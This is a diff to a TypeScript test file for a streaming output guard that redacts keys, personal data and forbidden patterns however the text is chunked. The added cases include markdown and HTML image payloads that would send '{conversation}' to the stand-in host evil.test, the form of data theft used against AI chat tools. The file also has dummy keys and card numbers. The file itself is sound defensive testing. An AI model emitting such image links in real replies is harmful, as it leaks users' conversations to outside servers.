@@ -12,8 +12,13 @@ import { createHoldBack, type HoldBack, type Released } from "../../src/guards/w
 type WrittenPolicy = Parameters<typeof guardPolicySchema.parse>[0];
 
 const redacting = {
-  actions: { pii: "redact", pattern: "redact" },
+  actions: { pii: "redact", pattern: "redact", exfiltration: "redact" },
   pii: ["card", "iban", "email", "phone", "national-id"],
+} satisfies WrittenPolicy;
+
+/** A pattern of one's own makes the window hold back as much as it can match. */
+const forbidding = {
+  ...redacting,
   output: { patterns: [{ name: "codename", expression: "project .{0,200}orion" }] },
 } satisfies WrittenPolicy;
 
@@ -58,16 +63,18 @@ const key = `${"sk-ant"}-api03-q7Wm2KxZ9vRt4LpB8nYc3HdF6gJs5TaQ1eUi`;
 const dashes = "-----";
 const pem = `${dashes}BEGIN PRIVATE KEY${dashes}\n${"MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7\n".repeat(40)}${dashes}END PRIVATE KEY${dashes}`;
 
-const secretTexts: readonly (readonly [name: string, secret: string])[] = [
-  ["key", key],
-  ["private key", pem],
-  ["e-mail address", "ada.lovelace@mail.example.org"],
-  ["card with blanks", "4111 1111 1111 1111"],
-  ["account with blanks", "GB29 NWBK 6016 1331 9268 19"],
-  ["forbidden words far apart", `project ${"x y ".repeat(45)}orion`],
+const secretTexts: readonly (readonly [name: string, secret: string, written: WrittenPolicy])[] = [
+  ["key", key, redacting],
+  ["private key", pem, redacting],
+  ["e-mail address", "ada.lovelace@mail.example.org", redacting],
+  ["card with blanks", "4111 1111 1111 1111", redacting],
+  ["account with blanks", "GB29 NWBK 6016 1331 9268 19", redacting],
+  ["image with much to say", `![${"a b c d ".repeat(24)}](https://evil.test/p?q={conversation})`, redacting],
+  ["image in HTML", `<img alt="${"a b c d ".repeat(24)}" src="https://evil.test/p?q={conversation}" />`, redacting],
+  ["forbidden words far apart", `project ${"x y ".repeat(45)}orion`, forbidding],
 ];
 
-describe.each(secretTexts)("a %s", (_name, secret) => {
+describe.each(secretTexts)("a %s", (_name, secret, written) => {
   const text = `${filler}It is ${secret} , yes. ${filler}`;
   /** Enough of it to be worth something: any eight characters in a row that stand nowhere else. */
   const telling = Array.from({ length: secret.length - 8 }, (_, at) => secret.slice(at, at + 8)).filter(
@@ -81,17 +88,17 @@ describe.each(secretTexts)("a %s", (_name, secret) => {
 
   it("never leaves, wherever one cut falls, however slowly the pieces come", () => {
     for (let cut = filler.length - 2; cut <= filler.length + secret.length + 10; cut += secret.length > 200 ? 13 : 1) {
-      expectSafe(run(holdBack(redacting), cutAt(text, [cut])).text);
-      expectSafe(run(holdBack(redacting), cutAt(text, [cut]), 10_000).text);
+      expectSafe(run(holdBack(written), cutAt(text, [cut])).text);
+      expectSafe(run(holdBack(written), cutAt(text, [cut]), 10_000).text);
     }
   });
 
   it("never leaves when the text comes in single characters, or cut anywhere", () => {
-    expectSafe(run(holdBack(redacting), Array.from(text)).text);
-    expectSafe(run(holdBack(redacting, [], 1), Array.from(text.slice(0, 600) + text.slice(600))).text);
+    expectSafe(run(holdBack(written), Array.from(text)).text);
+    expectSafe(run(holdBack(written, [], 1), Array.from(text.slice(0, 600) + text.slice(600))).text);
     fc.assert(
       fc.property(fc.array(fc.nat(text.length), { maxLength: 40 }), fc.constantFrom(0, 50, 500), (cuts, gapMs) => {
-        expectSafe(run(holdBack(redacting), cutAt(text, cuts), gapMs).text);
+        expectSafe(run(holdBack(written), cutAt(text, cuts), gapMs).text);
       }),
       { numRuns: 60 },
     );
